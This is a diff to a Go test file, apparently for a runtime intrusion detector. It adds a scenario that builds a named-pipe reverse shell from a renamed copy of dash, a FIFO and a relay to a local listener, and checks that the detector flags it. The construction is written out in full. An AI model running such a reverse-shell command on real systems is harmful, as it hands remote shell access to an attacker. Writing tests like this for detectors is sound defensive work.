@@ -10,6 +10,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 )
@@ -42,6 +43,23 @@ func scenarios(malware string) []scenario {
 				<-out
 			},
 			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/systemd-helper", "/attacker"}}},
+		},
+		{
+			name: "named-pipe reverse shell: cat fifo | sh -i | relay > fifo, with no known network client",
+			run: func(t *testing.T, e *env, _ *containerRun) {
+				shell := filepath.Join(e.work, "bin", "ash")
+				copyFile(t, "/bin/dash", shell, 0o755)
+				fifo := filepath.Join(t.TempDir(), "f")
+				if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+					t.Fatal(err)
+				}
+				addr, out := tcpListener(t, "echo vigil-$((6*7)); exit\n")
+				run(t, "/bin/sh", "-c", fmt.Sprintf("cat %s | %s -i 2>&1 | %s relay %s > %s", fifo, shell, e.attacker, addr, fifo))
+				if got := <-out; !strings.Contains(got, "vigil-42") {
+					t.Logf("reverse shell output: %q", got)
+				}
+			},
+			wants: []want{{Type: "Execution:Runtime/ReverseShell", Exe: []string{"/ash"}}},
 		},
 		{
 			name:      "failed mount of /etc onto /tmp inside a container",
